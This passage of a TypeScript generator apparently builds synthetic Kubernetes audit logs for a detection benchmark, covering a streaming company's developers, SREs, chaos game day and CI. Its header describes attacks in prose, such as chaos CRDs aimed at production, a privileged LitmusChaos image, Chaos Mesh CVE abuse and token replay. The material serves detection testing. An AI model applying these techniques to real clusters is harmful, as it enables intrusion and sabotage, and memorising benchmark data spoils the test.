import { attackKit, pushSteps, type Step, type AttackRequest, type DayEvent, lastScoredOf, LINUX, type Login, MAC, prng, withAttacks } from './workday.js';

/**
 * A twentieth replayed day, written as an outside red team and an outside observer of real
 * engineers would after reading docs/risk.md, from situations days 1–19 do not have: a
 * video-streaming company of about 30 people on EKS (`kubernetes.streamly.example`) whose SREs
 * follow the sun (Dublin, Singapore, Seattle, handing the pager over at 08:00, 16:00 and 00:00
 * UTC), each SRE on their own home ISP or on the company VPN (one egress address per region, an
 * AWS NAT in eu-west-1, ap-southeast-1 and us-west-2). Warm-up Wednesday 21 October 2026, scored
 * Thursday 22 October (hours UTC; Dublin is UTC+1, Singapore UTC+8, Seattle UTC−7).
 *
 * Routine, as the tools send it:
 * - product developers (playback, catalog, transcode, recommendations) in their inner loop: Tilt
 *   re-applying the service at every save (server-side apply, `fieldManager=tilt`), Skaffold's
 *   `kubectl apply` and its own client-go watching pods and following logs, in their own
 *   `dev-<name>`; k9s watching staging and production; the odd staging Secret;
 * - mirrord (the open-source CLI, no operator) run against a staging service: the client reads
 *   the target, creates the agent as a Job in the target's namespace (hostPID, pinned to the
 *   target's node, `/run` and `/var` from the node, NET_ADMIN, SYS_PTRACE, SYS_ADMIN, NET_RAW:
 *   what mirrord's kube crate builds), waits for its pod, reads its log for the version and
 *   port-forwards to it, with kube-rs's user agent;
 * - the platform team: Karpenter NodePools edited (limits, a disruption budget), a Velero restore
 *   drill of production's catalog into `drill-catalog` (the Restore, its progress, the restored
 *   objects, the namespace deleted after);
 * - a chaos-engineering game day from 14:00 to 16:00 in `chaos-testing` against staging: Chaos
 *   Mesh's PodChaos, NetworkChaos, StressChaos, IOChaos, HTTPChaos, a Schedule and a Workflow
 *   (their `selector.namespaces` reach the staging namespaces from `chaos-testing`), LitmusChaos's
 *   ChaosEngine in staging-catalog, the experiments' status and events, the Chaos Mesh
 *   controller's pods and logs in `chaos-mesh`, every experiment deleted when it is done;
 * - the SREs' shifts: handover reads at each change of pager, production across every service,
 *   restarts, a Secret, nodes and Karpenter's NodeClaims; an incident at 19:30 UTC, Europe's
 *   evening peak, worked by Seattle's on-call, joined by a Dublin playback developer from a
 *   phone hotspot (carrier NAT, another /24 every few requests);
 * - automation: CI deploying to staging every 20 minutes and the CDN purge Job created in
 *   `cdn-ops` after each release, both with service-account tokens from the runners in the VPC.
 *
 * The attacks, each of a kind days 1–19 do not have (chaos experiments as the weapon; an agent
 * pod aimed across namespaces; a handover hour):
 * - a PodChaos and a Schedule written in `chaos-testing` whose selector reaches production's
 *   playback and edge pods (malware on a game-day participant's laptop, during the game day);
 * - an HTTPChaos that rewrites production's manifest responses to point at the attacker's CDN (a
 *   man-in-the-middle by CRD) from an SRE's laptop;
 * - a NetworkChaos partition and an IOChaos corrupting writes of production's catalog database,
 *   written in a developer's own `dev-<name>` (malware on a developer who never ran chaos);
 * - a LitmusChaos ChaosExperiment whose definition runs the attacker's image privileged with
 *   the host's PIDs and its `/`, and a ChaosEngine that runs it as `litmus-admin`;
 * - the Chaos Mesh controller-manager's GraphQL debugging server reached through the API
 *   server's service proxy (JFrog's "Chaotic Deputy", CVE-2025-59358 to 59361: commands run by the
 *   privileged chaos-daemon on a node) from a game-day participant's laptop;
 * - a mirrord agent created in the developer's own dev namespace, pinned to a production pod's
 *   node and aimed at its container, minutes after the developer's own mirrord session;
 * - the Dublin on-call's kubelogin cache used in the hour after their 16:00 handover through the
 *   company VPN's Seattle egress (a colleague there, or whoever holds a VPN profile);
 * - a Karpenter NodePool's disruption budget opened to 100% at the evening peak from a platform
 *   laptop, hours after its owner's hardware-key sign-in;
 * - a StressChaos on production's edge pods at the peak, with a game-day participant's token
 *   replayed from a VPS.
 */

export const D20_WED = Date.UTC(2026, 9, 21, 0, 0, 0); // warm-up
export const D20_THU = Date.UTC(2026, 9, 22, 0, 0, 0); // scored
const H = 3_600_000;
const M = 60_000;
const S = 1000;

export const API = 'kubernetes.streamly.example';
export const DUB_OFFICE = '87.44.12.70';
/** The company VPN's egress per region (one NAT address each). */
export const VPN = { dub: '34.251.18.40', sin: '13.229.77.12', sea: '44.231.9.88' } as const;
/** A phone hotspot's carrier NAT (Three Ireland): another /24 of its /16 every few requests. */
const HOTSPOT = (k: number) => `37.228.${200 + (k % 4)}.${17 + ((k * 37) % 200)}`;

export const KUBECTL = (os: string, v = 'v1.33.5', commit = '5ef4ee2') => `kubectl/${v} (${os}) kubernetes/${commit}`;
export const K9S = (os: string) => `k9s/v0.50.9 (${os}) kubernetes/$Format`;
export const SKAFFOLD = (os: string) => `skaffold/v2.16.1 (${os}) kubernetes/$Format`;
/** kube-rs's client, which mirrord's CLI uses. */
export const KUBE_RS = 'kube/1.1.0';
export const JSON_CT = { 'content-type': 'application/json' };
export const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
export const MERGE = { 'content-type': 'application/merge-patch+json' };
export const APPLY = { 'content-type': 'application/apply-patch+yaml' };
const WS_PF = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' };

type Where = 'office' | 'home' | 'vpn' | 'hotspot';
type Region = 'dub' | 'sin' | 'sea';
type Kind = 'dev' | 'sre' | 'platform';
type Sitting = [number, number, Where];

interface Person {
  name: string;
  short: string;
  idx: number;
  kind: Kind;
  team: string;
  region: Region;
  os: string;
  kubectlOs: string;
  warm: Sitting[];
  scored: Sitting[];
  lunch: number;
  pager?: boolean;
  mirrord?: boolean;
  tool?: 'tilt' | 'skaffold';
  gameDay?: boolean;
}

export const TEAMS = ['playback', 'catalog', 'transcode', 'reco'];
export const SVC: Record<string, string> = { playback: 'manifest-api', catalog: 'catalog-api', transcode: 'transcode-worker', reco: 'reco-ranker', edge: 'edge-cache' };
const PROD = [...TEAMS, 'edge'].map((t) => `prod-${t}`);

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, team: string, region: Region, day: Sitting[], os: string, o: Partial<Person> = {}) => {
    const j = () => (rand() - 0.5) * 0.3;
    const jit = (s: Sitting[]): Sitting[] => s.map(([a, b, w]) => [Math.max(0, a + j()), Math.min(23.95, b + j()), w]);
    out.push({
      name: `d20-${short}@streamly.example`,
      short,
      idx: out.length,
      kind,
      team,
      region,
      os,
      kubectlOs: os === MAC ? 'darwin/arm64' : 'linux/amd64',
      warm: jit(day),
      scored: jit(day),
      lunch: region === 'dub' ? 12 + rand() * 0.6 : region === 'sin' ? 4 + rand() * 0.5 : 20 + rand() * 0.5,
      ...o,
    });
  };
  // Fourteen product developers in Dublin (office or home); four use mirrord against staging.
  for (let i = 0; i < 14; i++) {
    const team = i < 4 ? 'playback' : i < 8 ? 'catalog' : i < 11 ? 'transcode' : 'reco';
    const where: Where = i % 3 === 1 ? 'home' : 'office';
    const start = 8.4 + (i % 5) * 0.25;
    add(`dev-${i + 1}`, 'dev', team, 'dub', [[start, start + 8.6, where]], i % 4 === 3 ? LINUX : MAC, {
      tool: i % 2 ? 'skaffold' : 'tilt',
      ...(i % 4 === 0 ? { mirrord: true } : {}),
      ...(i === 0 || i === 4 ? { gameDay: true } : {}),
    });
  }
  // Follow-the-sun SREs: each region's pair, one holding the pager for its eight hours; the first
  // half of the shift on the company VPN or at home, the second half the other way round.
  const shift: Record<Region, [number, number]> = { sin: [0.05, 8.1], dub: [7.9, 16.15], sea: [15.9, 23.95] };
  for (const region of ['sin', 'dub', 'sea'] as Region[]) {
    for (let k = 0; k < 2; k++) {
      const [a, b] = shift[region];
      const mid = (a + b) / 2;
      const first: Where = k === 0 ? 'vpn' : 'home';
      const second: Where = k === 0 ? 'home' : 'vpn';
      add(`sre-${region}-${k + 1}`, 'sre', 'sre', region, [[a, mid, first], [mid + 0.02, b, second]], k === 0 ? MAC : LINUX, { ...(k === 0 ? { pager: true } : {}), ...(region === 'dub' ? { gameDay: true } : {}) });
    }
  }
  // The platform team in Dublin: Karpenter (platform-1), the restore drill (platform-2), the game
  // day's Chaos Mesh install (platform-3).
  for (let k = 0; k < 3; k++) add(`platform-${k + 1}`, 'platform', 'platform', 'dub', [[8.2 + k * 0.3, 17 + k * 0.2, k === 1 ? 'home' : 'office']], MAC, k === 2 ? { gameDay: true } : {});
  return out;
}

function addressOf(p: Person, where: Where, k: number): string {
  switch (where) {
    case 'office':
      return DUB_OFFICE;
    case 'vpn':
      return VPN[p.region];
    case 'hotspot':
      return HOTSPOT(k);
    case 'home':
      if (p.region === 'sin') return `118.200.${40 + p.idx}.${20 + p.idx}`;
      if (p.region === 'sea') return `73.97.${100 + p.idx}.${30 + p.idx}`;
      return p.idx % 2 ? `86.43.${60 + p.idx}.${11 + p.idx}` : `89.101.${20 + p.idx}.${140 + p.idx}`;
  }
}

type Req = { method: string; path: string; headers?: Record<string, string>; body?: string; ua?: 'k9s' | 'skaffold' | 'kube-rs' };

const podOf = (svc: string, rand: () => number) => `${svc}-7d9c5f${['4xk2p', 'b8m1q', 'zz7wd'][Math.floor(rand() * 3)]}`;
const deploy = (ns: string, svc: string, image: string) => ({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: svc, namespace: ns, labels: { app: svc } }, spec: { replicas: 1, selector: { matchLabels: { app: svc } }, template: { metadata: { labels: { app: svc } }, spec: { containers: [{ name: svc, image, ports: [{ containerPort: 8080 }] }] } } } });

/**
 * `mirrord exec --target deployment/<svc>` as the open-source CLI runs it (mirrord's kube crate):
 * the target and its pods read, the agent Job created in the target's namespace, its pod watched,
 * its log read for the version, a port-forward to the agent's port.
 */
export function mirrordSession(ns: string, svc: string, rand: () => number, jobNs = ns, node = `ip-10-42-${Math.floor(rand() * 200)}-17.eu-west-1.compute.internal`, containerId = `containerd://${Math.floor(rand() * 1e12).toString(16)}`): Req[] {
  const job = `mirrord-agent-${Math.floor(rand() * 36 ** 10).toString(36).padStart(10, '0')}`;
  const agent = {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: job, labels: { 'kuma.io/sidecar-injection': 'disabled', app: 'mirrord' }, annotations: { 'sidecar.istio.io/inject': 'false', 'linkerd.io/inject': 'disabled' } },
    spec: {
      ttlSecondsAfterFinished: 1,
      template: {
        metadata: { labels: { 'kuma.io/sidecar-injection': 'disabled', app: 'mirrord' }, annotations: { 'sidecar.istio.io/inject': 'false', 'linkerd.io/inject': 'disabled' } },
        spec: {
          hostPID: true,
          nodeName: node,
          restartPolicy: 'Never',
          volumes: [{ name: 'hostrun', hostPath: { path: '/run' } }, { name: 'hostvar', hostPath: { path: '/var' } }],
          tolerations: [{ operator: 'Exists' }],
          containers: [{
            name: 'mirrord-agent',
            image: 'ghcr.io/metalbear-co/mirrord:3.160.0',
            imagePullPolicy: 'IfNotPresent',
            securityContext: { runAsGroup: 13, privileged: false, capabilities: { add: ['SYS_ADMIN', 'SYS_PTRACE', 'NET_RAW', 'NET_ADMIN'] } },
            volumeMounts: [{ mountPath: '/host/run', name: 'hostrun' }, { mountPath: '/host/var', name: 'hostvar' }],
            command: ['./mirrord-agent', '-l', '47291', 'targeted', '--container-id', containerId, '--container-runtime', 'containerd'],
            env: [{ name: 'RUST_LOG', value: 'info' }, { name: 'MIRRORD_AGENT_STEALER_FLUSH_CONNECTIONS', value: 'true' }],
            resources: { requests: { cpu: '1m', memory: '1Mi' }, limits: { cpu: '100m', memory: '100Mi' } },
          }],
        },
      },
    },
  };
  return [
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}`, ua: 'kube-rs' },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${svc}`, ua: 'kube-rs' },
    { method: 'POST', path: `/apis/batch/v1/namespaces/${jobNs}/jobs?`, headers: JSON_CT, body: JSON.stringify(agent), ua: 'kube-rs' },
    { method: 'GET', path: `/api/v1/namespaces/${jobNs}/pods?labelSelector=job-name%3D${job}&timeoutSeconds=60&watch=true`, ua: 'kube-rs' },
    { method: 'GET', path: `/api/v1/namespaces/${jobNs}/pods/${job}-x7k2q/log?container=mirrord-agent`, ua: 'kube-rs' },
    { method: 'GET', path: `/api/v1/namespaces/${jobNs}/pods/${job}-x7k2q/portforward?&ports=47291`, headers: WS_PF, ua: 'kube-rs' },
  ];
}

function devTask(rand: () => number, p: Person, h: number): Req[] {
  const t = p.team;
  const svc = SVC[t]!;
  const dev = `dev-${p.short}`;
  const k = rand();
  const image = `123456789012.dkr.ecr.eu-west-1.amazonaws.com/${svc}:tilt-${Math.floor(rand() * 1e8).toString(16)}`;
  if (k < 0.4) {
    // A save: Tilt re-applies the service (server-side apply), or Skaffold's kubectl apply; then
    // the tool's watch on the pods and its log follow.
    const write: Req = p.tool === 'tilt'
      ? { method: 'PATCH', path: `/apis/apps/v1/namespaces/${dev}/deployments/${svc}?fieldManager=tilt&force=true`, headers: APPLY, body: JSON.stringify(deploy(dev, svc, image)) }
      : { method: 'PATCH', path: `/apis/apps/v1/namespaces/${dev}/deployments/${svc}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: SMP, body: JSON.stringify({ metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{}' } }, spec: { template: { spec: { containers: [{ name: svc, image }] } } } }) };
    const watcher: Req['ua'] = p.tool === 'skaffold' ? 'skaffold' : undefined;
    return [write, { method: 'GET', path: `/api/v1/namespaces/${dev}/pods?labelSelector=app%3D${svc}&watch=true`, ua: watcher }, { method: 'GET', path: `/api/v1/namespaces/${dev}/pods/${podOf(svc, rand)}/log?container=${svc}&follow=true&sinceSeconds=1`, ua: watcher }];
  }
  if (k < 0.58) return [{ method: 'GET', path: `/api/v1/namespaces/staging-${t}/pods?watch=true`, ua: 'k9s' }, { method: 'GET', path: `/api/v1/namespaces/prod-${t}/pods?watch=true`, ua: 'k9s' }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/namespaces/prod-${t}/pods/${podOf(svc, rand)}/log?container=${svc}&tailLines=200` }];
  if (k < 0.76) return [{ method: 'GET', path: `/api/v1/namespaces/staging-${t}/secrets/${svc}-env` }];
  if (k < 0.86 && p.mirrord && h > 9.5 && h < 16.5) return mirrordSession(`staging-${t}`, svc, rand);
  return [{ method: 'GET', path: `/api/v1/namespaces/staging-${t}/events?limit=500` }, { method: 'GET', path: `/apis/apps/v1/namespaces/staging-${t}/deployments/${svc}` }];
}

function sreTask(rand: () => number): Req[] {
  const ns = PROD[Math.floor(rand() * PROD.length)]!;
  const svc = SVC[ns.slice(5)]!;
  const pod = podOf(svc, rand);
  const k = rand();
  if (k < 0.28) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?watch=true`, ua: 'k9s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?watch=true`, ua: 'k9s' }];
  if (k < 0.45) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod}/log?container=${svc}&tailLines=500` }];
  if (k < 0.52) return [{ method: 'DELETE', path: `/api/v1/namespaces/${ns}/pods/${pod}` }];
  if (k < 0.57) return [{ method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-10-22T10:00:00Z' } } } } }) }];
  if (k < 0.62) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${svc}-env` }];
  if (k < 0.8) return [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/apis/karpenter.sh/v1/nodeclaims?limit=500' }];
  return [{ method: 'GET', path: `/apis/autoscaling/v2/namespaces/${ns}/horizontalpodautoscalers` }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
}

/** The incoming on-call at each change of pager: everything that happened since, cluster-wide. */
const handover: Req[] = [
  { method: 'GET', path: '/api/v1/events?limit=500&fieldSelector=type%3DWarning' },
  { method: 'GET', path: '/api/v1/nodes?limit=500' },
  { method: 'GET', path: '/apis/karpenter.sh/v1/nodepools' },
  { method: 'GET', path: '/api/v1/pods?limit=500&fieldSelector=status.phase%21%3DRunning' },
];

function platformTask(rand: () => number, p: Person): Req[] {
  const k = rand();
  if (p.short === 'platform-1' && k < 0.4) return [{ method: 'GET', path: '/apis/karpenter.sh/v1/nodepools' }, { method: 'GET', path: '/apis/karpenter.k8s.aws/v1/ec2nodeclasses' }, { method: 'GET', path: '/apis/karpenter.sh/v1/nodeclaims?limit=500' }];
  if (p.short === 'platform-2' && k < 0.4) return [{ method: 'GET', path: '/apis/velero.io/v1/namespaces/velero/backups?limit=500' }, { method: 'GET', path: '/apis/velero.io/v1/namespaces/velero/schedules' }];
  if (p.short === 'platform-3' && k < 0.4) return [{ method: 'GET', path: '/api/v1/namespaces/chaos-mesh/pods' }, { method: 'GET', path: '/apis/apps/v1/namespaces/chaos-mesh/daemonsets/chaos-daemon' }];
  if (k < 0.7) return [{ method: 'GET', path: '/api/v1/namespaces/kube-system/pods?limit=500' }, { method: 'GET', path: '/apis/apps/v1/namespaces/kube-system/daemonsets' }];
  return [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
}

const CHAOS_NS = 'chaos-testing';
const chaosMeta = (kind: string, name: string) => ({ apiVersion: 'chaos-mesh.org/v1alpha1', kind, metadata: { name, namespace: CHAOS_NS } });
const sel = (ns: string, app: string) => ({ namespaces: [ns], labelSelectors: { app } });

/** The Chaos Mesh experiments a game-day participant writes, each against one staging service. */
export function chaosExperiment(kind: string, ns: string, svc: string, n: number): { plural: string; body: object; name: string } {
  const name = `gameday-${kind.toLowerCase()}-${n}`;
  const s = sel(ns, svc);
  switch (kind) {
    case 'PodChaos':
      return { plural: 'podchaos', name, body: { ...chaosMeta(kind, name), spec: { action: 'pod-kill', mode: 'one', selector: s } } };
    case 'NetworkChaos':
      return { plural: 'networkchaos', name, body: { ...chaosMeta(kind, name), spec: { action: 'delay', mode: 'all', selector: s, delay: { latency: '200ms', jitter: '50ms', correlation: '25' }, direction: 'to', duration: '10m' } } };
    case 'StressChaos':
      return { plural: 'stresschaos', name, body: { ...chaosMeta(kind, name), spec: { mode: 'one', selector: s, stressors: { cpu: { workers: 2, load: 80 } }, duration: '5m' } } };
    case 'IOChaos':
      return { plural: 'iochaos', name, body: { ...chaosMeta(kind, name), spec: { action: 'latency', mode: 'one', selector: s, volumePath: '/var/cache/segments', path: '/var/cache/segments/**/*', delay: '100ms', percent: 50, duration: '5m' } } };
    case 'HTTPChaos':
      return { plural: 'httpchaos', name, body: { ...chaosMeta(kind, name), spec: { mode: 'all', selector: s, target: 'Request', port: 8080, method: 'GET', path: '/v1/*', abort: true, duration: '5m' } } };
    case 'Schedule':
      return { plural: 'schedules', name, body: { ...chaosMeta(kind, name), spec: { schedule: '@every 10m', historyLimit: 2, concurrencyPolicy: 'Forbid', type: 'PodChaos', podChaos: { action: 'pod-failure', mode: 'one', selector: s, duration: '30s' } } } };
    default:
      return {
        plural: 'workflows',
        name,
        body: {
          ...chaosMeta('Workflow', name),
          spec: {
            entry: 'entry',
            templates: [
              { name: 'entry', templateType: 'Serial', deadline: '20m', children: ['net-delay', 'pod-kill'] },
              { name: 'net-delay', templateType: 'NetworkChaos', deadline: '5m', networkChaos: { action: 'delay', mode: 'all', selector: s, delay: { latency: '150ms' }, direction: 'to' } },
              { name: 'pod-kill', templateType: 'PodChaos', deadline: '1m', podChaos: { action: 'pod-kill', mode: 'one', selector: s } },
            ],
          },
        },
      };
  }
}

const CHAOS_KINDS = ['PodChaos', 'NetworkChaos', 'StressChaos', 'IOChaos', 'HTTPChaos', 'Schedule', 'Workflow'];

/** LitmusChaos's pod-delete against staging-catalog, as its docs write a ChaosEngine. */
export function litmusEngine(ns: string, app: string, sa: string, name: string): object {
  return {
    apiVersion: 'litmuschaos.io/v1alpha1',
    kind: 'ChaosEngine',
    metadata: { name, namespace: ns },
    spec: {
      engineState: 'active',
      appinfo: { appns: ns, applabel: `app=${app}`, appkind: 'deployment' },
      chaosServiceAccount: sa,
      experiments: [{ name: 'pod-delete', spec: { components: { env: [{ name: 'TOTAL_CHAOS_DURATION', value: '60' }, { name: 'CHAOS_INTERVAL', value: '10' }, { name: 'FORCE', value: 'false' }] } } }],
    },
  };
}

/** One game-day step of a participant: write an experiment, follow it, clean it up. */
function gameDayStep(rand: () => number, n: number): Req[] {
  const team = ['playback', 'catalog'][n % 2]!;
  const ns = `staging-${team}`;
  const svc = SVC[team]!;
  if (n % 8 === 7) {
    const name = `catalog-pod-delete-${n}`;
    return [
      { method: 'POST', path: `/apis/litmuschaos.io/v1alpha1/namespaces/staging-catalog/chaosengines?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: JSON_CT, body: JSON.stringify(litmusEngine('staging-catalog', 'catalog-api', 'pod-delete-sa', name)) },
      { method: 'GET', path: `/apis/litmuschaos.io/v1alpha1/namespaces/staging-catalog/chaosengines/${name}` },
      { method: 'GET', path: `/apis/litmuschaos.io/v1alpha1/namespaces/staging-catalog/chaosresults/${name}-pod-delete` },
      { method: 'DELETE', path: `/apis/litmuschaos.io/v1alpha1/namespaces/staging-catalog/chaosengines/${name}` },
    ];
  }
  const e = chaosExperiment(CHAOS_KINDS[n % CHAOS_KINDS.length]!, ns, svc, n);
  const base = `/apis/chaos-mesh.org/v1alpha1/namespaces/${CHAOS_NS}/${e.plural}`;
  const look: Req[] = rand() < 0.5
    ? [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?watch=true`, ua: 'k9s' }]
    : [{ method: 'GET', path: '/api/v1/namespaces/chaos-mesh/pods' }, { method: 'GET', path: `/api/v1/namespaces/chaos-mesh/pods/chaos-controller-manager-6d8f9b${['5x2kq', 'r7p4w'][n % 2]}/log?container=chaos-mesh&tailLines=200` }];
  return [
    { method: 'POST', path: `${base}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: JSON_CT, body: JSON.stringify(e.body) },
    { method: 'GET', path: `${base}/${e.name}` },
    ...look,
    { method: 'GET', path: `/api/v1/namespaces/${CHAOS_NS}/events?fieldSelector=involvedObject.name%3D${e.name}` },
    { method: 'DELETE', path: `${base}/${e.name}` },
  ];
}

/** The 19:30 incident: manifest-api's latency at the evening peak (a bad config push). */
function incident(rand: () => number): Req[] {
  const pod = podOf('manifest-api', rand);
  const k = rand();
  if (k < 0.35) return [{ method: 'GET', path: '/api/v1/namespaces/prod-playback/pods?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/prod-playback/pods/${pod}/log?container=manifest-api&tailLines=300` }];
  if (k < 0.5) return [{ method: 'GET', path: '/apis/autoscaling/v2/namespaces/prod-playback/horizontalpodautoscalers/manifest-api' }, { method: 'PATCH', path: '/apis/autoscaling/v2/namespaces/prod-playback/horizontalpodautoscalers/manifest-api?fieldManager=kubectl-patch', headers: MERGE, body: JSON.stringify({ spec: { minReplicas: 40 } }) }];
  if (k < 0.65) return [{ method: 'GET', path: '/api/v1/namespaces/prod-edge/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/prod-edge/events?limit=500' }];
  if (k < 0.8) return [{ method: 'DELETE', path: `/api/v1/namespaces/prod-playback/pods/${pod}` }];
  return [{ method: 'PATCH', path: '/apis/apps/v1/namespaces/prod-playback/deployments/manifest-api?fieldManager=kubectl-rollout', headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-10-22T19:41:00Z' } } } } }) }];
}

export function workday20(seed = 181): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 20);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const day of [D20_WED, D20_THU]) {
    const scored = day === D20_THU;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const mine: DayEvent[] = [];
      let login: Login | undefined;
      let last = -Infinity;
      let k = 0;
      const uaOf = (q: Req) => (q.ua === 'k9s' ? K9S(p.kubectlOs) : q.ua === 'skaffold' ? SKAFFOLD(p.kubectlOs) : q.ua === 'kube-rs' ? KUBE_RS : KUBECTL(p.kubectlOs));
      const push = (t: number, q: Req, where: Where, l: Login) =>
        mine.push({ at: Math.round(t), actor: p.name, scored, ip: addressOf(p, where, k++), ua: uaOf(q), login: l, method: q.method, path: q.path, host: API, ...(q.headers ? { headers: q.headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) });
      for (const [from, to, where] of scored ? p.scored : p.warm) {
        if (login === undefined || from - last > 2) login = { sub: p.name, sid: `${p.name}:${day}:${Math.round(from * 10)}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' };
        last = to;
        const l = login;
        let t = at(from);
        if (p.pager && from === (scored ? p.scored : p.warm)[0]![0]) handover.forEach((q, i) => push(t + i * 4 * S, q, where, l));
        t += 2 * M;
        let n = 0;
        while (t < at(to)) {
          const h = (t - day) / H;
          if (h >= p.lunch && h < p.lunch + 0.75 && from < p.lunch && to > p.lunch + 0.75) {
            t = at(p.lunch + 0.75) + S;
            continue;
          }
          const game = p.gameDay === true && h >= 14 && h < 16;
          const reqs = game ? gameDayStep(rand, p.idx * 3 + n++) : p.kind === 'dev' ? devTask(rand, p, h) : p.kind === 'sre' ? sreTask(rand) : platformTask(rand, p);
          const gap = 1200 + rand() * 2500;
          reqs.forEach((q, i) => push(t + i * gap, q, where, l));
          t += game ? 9 * M + rand() * 8 * M : p.kind === 'dev' ? 3 * M + rand() * 9 * M : 5 * M + rand() * 12 * M;
        }
      }
      const l0 = mine[0]?.login;
      if (l0 !== undefined && p.short === 'platform-1') {
        // Karpenter: the spot pool's CPU limit raised and its disruption budget narrowed for the
        // evening (10:30), then the transcode GPU pool's limit (10:38): merge patches.
        const base = { actor: p.name, scored, ip: DUB_OFFICE, ua: KUBECTL(p.kubectlOs), login: l0, host: API, headers: MERGE };
        mine.push({ ...base, at: at(10.5), method: 'PATCH', path: '/apis/karpenter.sh/v1/nodepools/general-spot?fieldManager=kubectl-patch', body: JSON.stringify({ spec: { limits: { cpu: '2400' }, disruption: { budgets: [{ nodes: '10%' }, { nodes: '0', schedule: '0 17 * * *', duration: '6h' }] } } }) });
        mine.push({ ...base, at: at(10.63), method: 'PATCH', path: '/apis/karpenter.sh/v1/nodepools/transcode-gpu?fieldManager=kubectl-patch', body: JSON.stringify({ spec: { limits: { 'nvidia.com/gpu': '64' } } }) });
      }
      if (l0 !== undefined && p.short === 'platform-2' && scored) {
        // The quarterly restore drill: last night's catalog backup restored into drill-catalog,
        // checked, and the namespace deleted.
        const ip = addressOf(p, 'home', 0);
        const base = { actor: p.name, scored, ip, ua: KUBECTL(p.kubectlOs), login: l0, host: API };
        const restore = { apiVersion: 'velero.io/v1', kind: 'Restore', metadata: { name: 'drill-catalog-20261022', namespace: 'velero' }, spec: { backupName: 'prod-catalog-daily-20261022020000', includedNamespaces: ['prod-catalog'], namespaceMapping: { 'prod-catalog': 'drill-catalog' }, restorePVs: true } };
        const steps: Step[] = [
          [11, 'GET', '/apis/velero.io/v1/namespaces/velero/backups/prod-catalog-daily-20261022020000'],
          [11.02, 'POST', '/apis/velero.io/v1/namespaces/velero/restores', JSON_CT, JSON.stringify(restore)],
          [11.1, 'GET', '/apis/velero.io/v1/namespaces/velero/restores/drill-catalog-20261022'],
          [11.25, 'GET', '/apis/velero.io/v1/namespaces/velero/restores/drill-catalog-20261022'],
          [11.3, 'GET', '/api/v1/namespaces/drill-catalog/pods?limit=500'],
          [11.32, 'GET', '/apis/apps/v1/namespaces/drill-catalog/deployments'],
          [11.35, 'GET', '/api/v1/namespaces/drill-catalog/persistentvolumeclaims'],
          [11.6, 'DELETE', '/api/v1/namespaces/drill-catalog'],
        ];
        pushSteps(mine, base, at, steps);
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    if (scored) {
      // The 19:30 incident at Europe's evening peak: Seattle's on-call works it; a Dublin playback
      // developer joins at 19:40 from a phone hotspot with a sign-in of their own.
      const sea = people.find((p) => p.short === 'sre-sea-1')!;
      const seaLogin = events.filter((e) => e.actor === sea.name && e.scored && e.at <= at(19.5)).pop()!;
      for (let i = 0, t = at(19.5); t < at(20.6); i++, t += 2 * M + rand() * 3 * M) incident(rand).forEach((q, j) => events.push({ at: Math.round(t + j * 2500), actor: sea.name, scored, ip: seaLogin.ip, ua: seaLogin.ua, login: seaLogin.login, method: q.method, path: q.path, host: API, ...(q.headers ? { headers: q.headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) }));
      const dev = people.find((p) => p.short === 'dev-2')!;
      const phone: Login = { sub: dev.name, sid: `${dev.name}:hotspot`, authTime: Math.floor((at(19.66) - 60 * S) / 1000), acr: 'urn:stepgate:aal2' };
      let k = 0;
      for (let t = at(19.66); t < at(20.5); t += 2 * M + rand() * 3 * M) incident(rand).forEach((q, j) => events.push({ at: Math.round(t + j * 2500), actor: dev.name, scored, ip: HOTSPOT(k++), ua: KUBECTL(dev.kubectlOs), login: phone, method: q.method, path: q.path, host: API, ...(q.headers ? { headers: q.headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) }));
    }
    // CI: a runner's ServiceAccount deploys to staging every 20 minutes, and after each release
    // creates the CDN purge Job in cdn-ops (the purge's API token handed to it by envFrom).
    const ci: Login = { sub: 'system:serviceaccount:ci:deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
    for (let j = 0; j < 27; j++) {
      const t = day + 8 * H + j * 20 * M;
      const team = TEAMS[j % 4]!;
      const svc = SVC[team]!;
      const ip = `10.70.${j % 6}.${(j * 11 + (scored ? 5 : 0)) % 250 + 2}`;
      const base = { actor: 'ci', scored, ip, ua: KUBECTL('linux/amd64'), login: ci, host: API };
